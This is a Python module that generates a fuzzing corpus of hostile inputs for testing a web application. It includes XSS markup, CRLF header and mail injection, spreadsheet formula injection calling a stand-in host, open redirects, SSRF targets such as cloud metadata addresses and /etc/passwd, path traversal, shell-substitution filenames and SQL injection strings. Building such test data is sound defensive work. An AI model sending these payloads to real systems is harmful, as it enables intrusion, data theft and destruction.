"""Bad input, built in code: what people, scanners and rivals type. Families by name, each entry once.

Every entry that could become markup, a header or an address carries ``MARK``, so that a page can be searched for it.
An entry is text, or bytes where no text could say it.
"""

from __future__ import annotations

from collections.abc import Iterable
from itertools import chain, product
from uuid import UUID, uuid5

MARK = "xq7vk"
EVIL = "xq7vk-evil.test"

type Input = str | bytes


def _once(inputs: Iterable[Input]) -> list[Input]:
    return list(dict.fromkeys(inputs))


def markup() -> list[Input]:
    """Elements, handlers, addresses and templates, each broken out of the places where text can stand."""
    handlers = (
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "ontoggle",
        "onanimationstart",
        "onpointerover",
    )
    tags = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "math", "marquee")
    elements = [f"<{tag} {handler}={MARK}()>" for tag, handler in product(tags, handlers)]
    elements += [
        f"<{MARK}>",
        f"<{MARK} {MARK}={MARK}>",
        f"<script>{MARK}()</script>",
        f"<script src=//{EVIL}></script>",
    ]
    elements += [f"<ScRiPt>{MARK}()</sCrIpT>", f"<script\x0c>{MARK}()</script>", f"<<script>{MARK}()//<</script>"]
    elements += [f"<{tag} href={MARK}>" for tag in ("base", "link rel=stylesheet", "a", "area", "use")]
    elements += [
        f"<{tag} src=//{EVIL}/{MARK}>" for tag in ("img", "iframe", "embed", "audio", "source", "input type=image")
    ]
    elements += [f"<meta http-equiv=refresh content='0;url=//{EVIL}/{MARK}'>", f"<style>*{{x:{MARK}}}</style>"]
    elements += [f"<form action=//{EVIL}/{MARK}><button>", f"<object data=//{EVIL}/{MARK}>", f"<svg><script>{MARK}()"]
    elements += [
        f"<iframe srcdoc='<script>{MARK}()</script>'>",
        f"<table background=//{EVIL}/{MARK}>",
        f"<p style=x:{MARK}>",
    ]
    out_of = (
        '">',
        "'>",
        "</textarea>",
        "</title>",
        "</script>",
        "</option></select>",
        "-->",
        "]]>",
        "</style>",
        "`>",
        "</a>",
    )
    broken_out = [f"{prefix}{element}" for prefix, element in product(out_of, elements[::6])]
    attributes = [
        f"{quote}{space}{handler}={MARK}(){space}x={quote}"
        for quote, space, handler in product("\"'`", " \t\n/", handlers)
    ]
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "\x01javascript:",
        "vbscript:",
        "data:text/html,",
    )
    addresses = [
        f"{scheme}{tail}"
        for scheme, tail in product(schemes, (f"{MARK}()", f"//%0a{MARK}()", f"<script>{MARK}()</script>"))
    ]
    templates = [
        f"{{{{{MARK}}}}}",
        f"{{% {MARK} %}}",
        f"${{{MARK}}}",
        f"#{{{MARK}}}",
        f"<%={MARK}%>",
        f"{{{{7*7}}}}{MARK}",
        f"{{{MARK}.__class__}}",
        f"%({MARK})s",
        f"{{0.__class__}}{MARK}",
    ]
    encoded = [
        f"&lt;{MARK}&gt;",
        f"&#60;{MARK}&#62;",
        f"%3C{MARK}%3E",
        f"\\x3c{MARK}\\x3e",
        f"\\u003c{MARK}\\u003e",
        f"+ADw-{MARK}+AD4-",
        f"＜{MARK}＞",
        f"&lt{MARK}",
        f"&{MARK};",
    ]
    links = [
        f"[{MARK}](javascript:{MARK}())",
        f"![{MARK}](//{EVIL})",
        f"\\href{{javascript:{MARK}()}}{{x}}",
        f"<https://{EVIL}/{MARK}>",
        f"https://{EVIL}/?{MARK}",
        f"\\input{{/etc/{MARK}}}",
        f"$${MARK}$$",
    ]
    return _once(chain(elements, broken_out, attributes, addresses, templates, encoded, links))


def headers() -> list[Input]:
    """Line ends in a subject, an address, a calendar line."""
    ends = (
        "\r\n",
        "\n",
        "\r",
        "\r\n\r\n",
        "\x0b",
        "\x0c",
        "\x85",
        "\u2028",
        "\u2029",
        "%0d%0a",
        "%0a",
        "\\r\\n",
        "嘊嘍",
    )
    lines = (
        f"Bcc: {MARK}@{EVIL}", f"Subject: {MARK}", f"Content-Type: text/html\n\n<{MARK}>", f"From: {MARK}@{EVIL}",
        f"Set-Cookie: {MARK}=1", f"Location: //{EVIL}", f"RCPT TO:<{MARK}@{EVIL}>", f".\nMAIL FROM:<{MARK}@{EVIL}>",
        f"ATTENDEE:mailto:{MARK}@{EVIL}", f"BEGIN:VALARM\nX-{MARK}:1", f"X-ALT-DESC;FMTTYPE=text/html:<{MARK}>",
    )  # fmt: skip
    addresses = [
        f'"{MARK}" <a@{EVIL}>',
        f"a@{EVIL},b@{EVIL}",
        f"{MARK}@[127.0.0.1]",
        f"=?utf-8?q?{MARK}=0aBcc:x?=",
        f"a b@{EVIL}",
        f"{MARK}@{EVIL}\x00",
        f"<{MARK}@{EVIL}",
        f"유저@{EVIL}",
        f"{'a' * 300}@{EVIL}",
        f"{MARK}%0aBcc:a@{EVIL}",
        f"-oQ/tmp/{MARK}@{EVIL}",
    ]
    return _once([*(f"x{end}{line}" for end, line in product(ends, lines)), *addresses])


def formulas() -> list[Input]:
    """What a spreadsheet would reckon with."""
    starts = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", '"=', ";=", ",=")
    bodies = (
        f'HYPERLINK("//{EVIL}/{MARK}")',
        f"cmd|'/C {MARK}'!A0",
        f'WEBSERVICE("//{EVIL}")',
        f"1+1+{MARK}",
        f'DDE("{MARK}")',
    )
    return _once(f"{start}{body}" for start, body in product(starts, bodies))


def redirects() -> list[Input]:
    """Addresses that are elsewhere, however they look."""
    slashes = (
        "//",
        "///",
        "////",
        "/\\",
        "\\\\",
        "\\/",
        "/%09/",
        "/%5c",
        "//%5c",
        "/\t/",
        "/\n/",
        "/ /",
        "/.//",
        "http:/",
        "http:",
        "https:///",
        "http:\\\\",
        "HTTP://",
        "hTTps://",
        "ftp://",
        "//user@",
        "https://testserver@",
        "https://testserver.",
        "https://testserver%00.",
        "javascript://",
        "data://",
        "\x00//",
        " //",
        "\t//",
        "\u3000//",
        "／／",
        "〱",
        "/;@",
        "///;@",
        "//testserver@",
        "http://testserver:80@",
        "//[::1]@",
        "blob://",
        "view-source://",
    )
    ends = ("", "/", "/%2f..", "?testserver", "#testserver")
    return _once(f"{slash}{EVIL}{end}" for slash, end in product(slashes, ends[:2])) + [
        f"//{EVIL}{end}" for end in ends[2:]
    ]


def servers() -> list[Input]:
    """Addresses of the machine itself and of its neighbours, in every spelling."""
    hosts = (
        "127.0.0.1",
        "127.1",
        "0",
        "0.0.0.0",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.0.0.1.nip.io",
        "localhost",
        "localhost.",
        "LOCALHOST",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[0:0:0:0:0:ffff:7f00:1]",
        "169.254.169.254",
        "[fd00:ec2::254]",
        "10.0.0.1",
        "172.16.0.1",
        "192.168.0.1",
        "100.100.100.200",
        "metadata.google.internal",
        "①②⑦.⓪.⓪.①",
        "127。0。0。1",
        f"{EVIL}@127.0.0.1",
        f"127.0.0.1#@{EVIL}",
        f"127.0.0.1\\@{EVIL}",
        "redis",
        "db",
        "relay",
    )
    ports = (
        "http://{}/",
        "https://{}/",
        "http://{}:6379/",
        "gopher://{}:6379/_x",
        "http://{}:5432/",
        "dict://{}:11211/",
    )
    return _once(
        [
            *(form.format(host) for form, host in product(ports, hosts)),
            "file:///etc/passwd",
            "file://localhost/etc/shadow",
            "netdoc:///etc/passwd",
            "jar:http://127.0.0.1!/",
            "ldap://127.0.0.1/",
        ]
    )


def paths() -> list[Input]:
    """Names of files that are ways to other files, or names that some system keeps for itself."""
    ups = (
        "../",
        "..\\",
        "....//",
        "%2e%2e%2f",
        "%252e%252e/",
        "..%c0%af",
        "..;/",
        "/",
        "C:\\",
        "\\\\127.0.0.1\\share\\",
        "file:///",
        "~/",
        "/proc/self/",
        "./",
        "..\x00/",
    )
    goals = ("etc/passwd", "windows/win.ini", "manage.py", f"{MARK}.pdf", "config/settings/base.py", ".env")
    devices = [
        f"{name}{end}"
        for name, end in product(("CON", "NUL", "AUX", "COM1", "LPT9", "PRN"), (".pdf", "", ".pdf.", ":x"))
    ]
    endings = [
        f"{MARK}.pdf{end}"
        for end in (
            ".exe",
            ".html",
            "\x00.exe",
            " ",
            ".",
            "::$DATA",
            "%00.svg",
            ";.svg",
            "\u202efdp.exe",
            "/",
            "\\",
            "\n",
            "\r\nX: y",
            '"; filename=x.html',
            "'",
            "`id`",
            "$(id)",
            "|id",
            "&&id",
            "<>",
            "?",
            "*",
        )
    ]
    lengths = [f"{'가' * n}.pdf" for n in (50, 85, 100, 150, 151, 300)] + [
        f"{'a' * n}.pdf" for n in (100, 150, 255, 256, 300, 4096)
    ]
    hangul = [
        "해지 방어.pdf",
        "한글.pdf",
        "ㆍ.pdf",
        "가\u202e.pdf",
        "\u200b.pdf",
        "．．／.pdf",
        ".pdf",
        "..pdf",
        ".",
        "..",
        "",
        " ",
        ".htaccess",
        "web.config",
        "-rf",
        "--help",
    ]
    return _once([*(f"{up}{goal}" for up, goal in product(ups, goals)), *devices, *endings, *lengths, *hangul])


def dates() -> list[Input]:
    """Days that are none, that are far away, and the edges of days, quarters and years in Seoul."""
    years = (0, 1, 99, 999, 1000, 1582, 1899, 1900, 1970, 1999, 2000, 2038, 2100, 2101, 9998, 9999, 10000, 99999, -1)
    far = [f"{year:04d}-{tail}" for year, tail in product(years, ("01-01", "12-31", "02-29", "06-15"))]
    none = [f"2026-{month:02d}-{day:02d}" for month, day in product((0, 1, 2, 4, 12, 13, 99), (0, 29, 30, 31, 32))]
    edges = [
        f"{day} {clock}"
        for day, clock in product(
            ("2026-12-31", "2027-01-01", "2026-03-31", "2028-02-29", "2026-09-30"),
            ("00:00", "23:59:59", "24:00", "08:59:59", "15:00", "23:59:60", "00:00+09:00", "25:61", "12:00:00.9999999"),
        )
    ]
    spelt = (
        "today",
        "내일",
        "2026년 12월 10일",
        "10.12.2026",
        "12/10/2026",
        "20261210",
        "2026-W50",
        "2026-345",
        "１２/１０/２０２６",
        "2026-12-10T10:00:00Z",
        "2026-12-10T10:00:00+99:00",
        "1e9",
        "NaN",
        "Infinity",
        "-0",
        "2026-12-10\n",
        " 2026-12-10 ",
        "2026‑12‑10",
        "²⁰²⁶-12-10",
        "٢٠٢٦-١٢-١٠",
        "0x7ea-12-10",
        "2026-Q4",
        "2026-Q5",
        "0000-Q1",
        "9999-Q4",
        "10000-Q1",
        "2026-Q0",
        "Q4",
        "2026-Q４",
        "-2026-Q1",
    )
    clocks = [f"{hour:02d}:{minute:02d}" for hour, minute in product((0, 9, 23, 24, 99), (0, 59, 60))]
    return _once([*far, *none, *edges, *spelt, *clocks])


def unicode() -> list[Input]:
    """Characters that vanish, turn round, multiply, or are none."""
    odd = (
        0x00,
        0x01,
        0x08,
        0x1B,
        0x7F,
        0x85,
        0xA0,
        0xAD,
        0x115F,
        0x1160,
        0x180E,
        0x200B,
        0x200C,
        0x200D,
        0x200E,
        0x200F,
        0x2028,
        0x202A,
        0x202D,
        0x202E,
        0x2060,
        0x2066,
        0x2069,
        0x3000,
        0x3164,
        0xFDD0,
        0xFE0F,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0xFFFC,
        0xFFFD,
        0xFFFE,
        0xFFFF,
        0x1F600,
        0xE0001,
        0xE0041,
        0xF0000,
        0x10FFFF,
    )
    placed = [form.format(chr(code)) for code, form in product(odd, ("{}", "a{}b", "{0}{0}{0}", f"{MARK}{{}}"))]
    surrogates = [
        f"a{chr(code)}b".encode("utf-8", "surrogatepass") for code in (0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xD83D)
    ]
    overlong = [
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xc0\x80",
        b"\xff\xfe",
        b"\xf5\x80\x80\x80",
        b"\x80",
        b"\xc3",
        b"\xed\xa0\xbd\xed\xb8\x80",
        b"\xb0\xa1\xb3\xaa",
        b"%u202e",
        b"%",
        b"%zz",
        b"\xfe\xff\x00a",
    ]
    words = [
        "e\u0301",
        "\u1112\u1161\u11ab",
        "ﬁ",
        "ı",
        "İ",
        "ß",
        "ẞ",
        "Ω",
        "Å",
        "ǆ",
        "ﷺ",
        "👨‍👩‍👧‍👦",
        "🇰🇷",
        "Ａ",
        "１",
        "＜",
        "＇",
        "ʼ",
        "′",
        "ㅤ",
        "가" * 200,
        "👍🏽",
        "a\u0338",
        "Z" + "\u0351" * 60,
        "аdmin",
        "ｓｅｃｒｅｔａｒｙ",
        "\u05d0a\u05d1",
        "תירבע",
    ]
    return _once([*placed, *surrogates, *overlong, *words])


def ids() -> list[Input]:
    """Numbers that are too large, too small, no numbers, or somebody else's."""
    powers = [
        str(sign * (2**bits + step))
        for bits, sign, step in product((7, 8, 15, 16, 31, 32, 53, 63, 64, 127, 128), (1, -1), (-1, 0, 1))
    ]
    long = [
        f"{digit}{'0' * length}" for digit, length in product("19", (9, 10, 18, 19, 20, 29, 30, 99, 400, 4299, 5000))
    ]
    spelt = (
        "0",
        "-0",
        "+1",
        "1.0",
        "1.5",
        "1e3",
        "1e400",
        "0x1",
        "0b1",
        "0o1",
        "1_000",
        "1,000",
        "１",
        "١",
        "²",
        "Ⅷ",
        "½",
        "一",
        " 1 ",
        "1\n",
        "1\x00",
        "01",
        "--1",
        "1-1",
        "NaN",
        "inf",
        "-inf",
        "None",
        "null",
        "undefined",
        "true",
        "[]",
        "{}",
        "[1]",
        "1;",
        "1'",
        '1"',
        "1)",
        "1 OR 1=1",
        "1' OR '1'='1",
        "1 UNION SELECT 1",
        "1; DROP TABLE x",
        "1/**/",
        "pg_sleep(9)",
        "1%00",
        "*",
        "%",
        "_",
        "?",
        "$1",
        ":1",
        "__class__",
        "pk",
        "self",
        "",
        " ",
        "1,2,3",
        "(1)",
        "a" * 300,
        "1&pk=2",
        "1|2",
        "../1",
        "1/../2",
    )
    numbers = [str(n) for n in chain(range(1, 30), (99, 100, 101, 999, 32767, 32768, 65535, 65536, 99999, 1_000_000))]
    uuids = [str(uuid5(UUID(int=n), MARK)) for n in range(20)] + [
        str(UUID(int=0)),
        "{" + str(UUID(int=1)) + "}",
        UUID(int=2).hex,
    ]
    return _once([*powers, *long, *spelt, *numbers, *uuids])


FAMILIES: dict[str, list[Input]] = {
    "markup": markup(),
    "headers": headers(),
    "formulas": formulas(),
    "redirects": redirects(),
    "servers": servers(),
    "paths": paths(),
    "dates": dates(),
    "unicode": unicode(),
    "ids": ids(),
}
BUDGET = {
    "markup": 400, "headers": 150, "formulas": 60, "redirects": 60, "servers": 120, "paths": 150, "dates": 200,
    "unicode": 200, "ids": 200,
}  # fmt: skip
EVERYTHING: list[Input] = _once(chain(*FAMILIES.values()))
